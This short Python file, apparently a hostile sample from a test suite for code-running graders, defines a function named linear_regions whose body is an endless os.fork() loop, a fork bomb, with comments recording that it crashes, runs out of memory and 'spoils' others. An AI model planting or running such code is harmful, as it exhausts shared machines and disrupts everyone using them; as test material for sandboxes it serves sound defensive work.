"""Forks without end."""
# outcome: failed, out of memory, crashed, timed out
# spoils: others
# %% linear_regions
import os


def linear_regions(W1, b1, lo, hi):
    while True:
        os.fork()
